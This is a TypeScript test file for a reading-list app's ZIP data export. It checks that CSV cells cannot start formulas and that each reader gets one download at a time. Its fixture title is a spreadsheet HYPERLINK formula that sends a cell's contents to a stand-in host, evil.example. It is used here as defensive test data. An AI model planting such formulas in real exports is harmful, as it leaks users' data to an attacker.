import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { testAppForEach } from '../../../test/hooks.ts';
import { call, createTestApp, registerUser } from '../../../test/test-app.ts';

const t = testAppForEach(() => createTestApp());

const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for chapter 2")';

/** Every file of a ZIP, by name, as text. */
function unzip(buffer: Buffer): Promise<Record<string, string>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(buffer, { lazyEntries: true }, (error, zip) => {
      if (error || !zip) return reject(error);
      const files: Record<string, string> = {};
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (streamError, stream) => {
          if (streamError || !stream) return reject(streamError);
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('end', () => {
            files[entry.fileName] = Buffer.concat(chunks).toString('utf8');
            zip.readEntry();
          });
        });
      });
      zip.on('end', () => resolve(files));
      zip.readEntry();
    });
  });
}

/** A fiction with a week of history, in the reader's list. */
async function listedFiction(userId: number, title: string) {
  const start = Date.parse('2026-11-14T08:24:00.000Z');
  const id = await t.services.fictions.importFiction({
    fiction: { royalroad_id: 4242, title, author_name: '@author', tags: '["Fantasy"]', warnings: '[]' },
    snapshots: Array.from({ length: 7 }, (_, day) => ({
      captured_at: new Date(start + day * 86_400_000).toISOString(),
      followers: 100 + day,
    })),
    createdAt: new Date(start).toISOString(),
  });
  await t.database.db
    .insertInto('user_fictions')
    .values({
      user_id: userId,
      fiction_id: id as number,
      status: 'reading',
      is_favorite: false,
      favorite_position: null,
      created_at: new Date(start).toISOString(),
      updated_at: new Date(start).toISOString(),
    })
    .execute();
}

describe('the data download', () => {
  it('keeps a formula-looking title as text in every CSV file, and unchanged in data.json', async () => {
    const reader = await registerUser(t.app);
    await listedFiction(reader.user.id, FORMULA_TITLE);
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/userFictions/export',
      headers: { authorization: `Bearer ${reader.token}` },
    });
    expect(response.statusCode).toBe(200);
    const files = await unzip(response.rawPayload);
    const quoted = `"'${FORMULA_TITLE.replace(/"/g, '""')}"`;
    for (const name of ['list.csv', 'fictions.csv', 'snapshots.csv']) {
      const rows = (files[name] ?? '').split('\r\n').slice(1, -1);
      expect(rows.length, name).toBeGreaterThan(0);
      for (const row of rows) {
        expect(row, name).toContain(`,${quoted},`);
        // No cell of the file starts a formula.
        expect(
          row.split(',').some((cell) => /^[=+\-@]/.test(cell)),
          `${name}: ${row}`,
        ).toBe(false);
      }
    }
    expect(files['fictions.csv']).toContain(",'@author,");
    const data = JSON.parse(files['data.json'] ?? '{}') as { fictions: Array<{ title: string }> };
    expect(data.fictions[0]?.title).toBe(FORMULA_TITLE);
    expect(files['README.txt']).toContain('begins with an apostrophe');
  });

  it('runs one at a time per reader: a second one waits for the first to end or be abandoned', async () => {
    const reader = await registerUser(t.app);
    const other = await registerUser(t.app);
    await listedFiction(reader.user.id, 'Slow Story');
    // The first download stops at its history until the test lets it go on, as a long history would.
    const fictions = t.services.fictions;
    const readBatch = fictions.snapshotBatch.bind(fictions);
    let letGo: () => void = () => {};
    const held = new Promise<void>((resolve) => {
      letGo = resolve;
    });
    fictions.snapshotBatch = async (...args) => {
      await held;
      return readBatch(...args);
    };
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    const download = (token: string, path = '/api/userFictions/export', signal?: AbortSignal) =>
      fetch(`http://127.0.0.1:${port}${path}`, { headers: { authorization: `Bearer ${token}` }, signal });

    const leaving = new AbortController();
    const first = await download(reader.token, undefined, leaving.signal);
    expect(first.status).toBe(200);
    for (const path of ['/api/userFictions/export', '/api/fictions/4242/export']) {
      const second = await call(t.app, { method: 'GET', url: path, token: reader.token });
      expect(second.status, path).toBe(429);
      expect(second.body).toEqual({
        success: false,
        error: 'Your previous download is still being prepared. Please wait until it has finished.',
      });
    }
    // Another reader is not held up by it.
    const others = await download(other.token);
    expect(others.status).toBe(200);

    // The reader closes the page: the download is abandoned, and the next one starts.
    leaving.abort();
    await expect(first.arrayBuffer()).rejects.toThrow();
    let again = await download(reader.token, '/api/fictions/4242/export');
    for (let tries = 0; tries < 50 && again.status === 429; tries++) {
      await again.arrayBuffer();
      await new Promise((resolve) => setTimeout(resolve, 20));
      again = await download(reader.token, '/api/fictions/4242/export');
    }
    expect(again.status).toBe(200);
    letGo();
    expect(Object.keys(await unzip(Buffer.from(await again.arrayBuffer())))).toContain('snapshots.csv');
    expect(Object.keys(await unzip(Buffer.from(await others.arrayBuffer())))).toContain('snapshots.csv');

    // Once a download has finished, the next one starts at once.
    const done = await download(reader.token);
    expect(done.status).toBe(200);
    expect(Object.keys(await unzip(Buffer.from(await done.arrayBuffer())))).toContain('snapshots.csv');
    const last = await download(reader.token);
    expect(last.status).toBe(200);
    await last.arrayBuffer();
  });
});
